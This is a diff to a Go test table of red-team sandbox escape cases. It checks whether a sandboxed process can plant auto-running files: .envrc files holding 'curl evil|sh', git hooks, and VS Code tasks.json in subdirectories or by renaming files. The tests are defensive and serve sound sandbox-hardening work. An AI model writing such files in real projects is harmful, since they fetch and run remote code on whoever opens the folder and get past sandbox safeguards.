@@ -217,6 +217,20 @@ var attacks = []attack{
 	{name: "F-08/recreate-hooks", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
 		script: `mkdir .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
+	// Red team B4: protected names below the project root.
+	{name: "F-07/envrc-in-subdir", config: writeDot,
+		script: `mkdir -p a/b && echo 'curl evil|sh' > a/b/.envrc`, worked: exists("a/b/.envrc")},
+	{name: "F-07/vscode-in-subdir", config: writeDot,
+		script: `mkdir -p deep/.vscode && echo '{"tasks":[]}' > deep/.vscode/tasks.json`, worked: exists("deep/.vscode/tasks.json")},
+	{name: "F-07/vscode-in-subdir-edited", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("deep/.vscode/tasks.json", "{}\n") },
+		script: `echo '{"tasks":[{"command":"id"}]}' > deep/.vscode/tasks.json`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read("deep/.vscode/tasks.json"), "id")
+		}},
+	{name: "F-07/envrc-in-subdir-renamed-old-file", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("a/notes", "x\n") },
+		script: `echo 'curl evil|sh' > a/notes && mv a/notes a/.envrc`, worked: exists("a/.envrc")},
 	// Red team B15: a read-only directory made the host-side move fail.
 	{name: "F-07/vscode-readonly-dir", config: writeDot,
 		script: `mkdir .vsx && echo '{"tasks":[]}' > .vsx/tasks.json && chmod 555 .vsx && mv .vsx .vscode`,
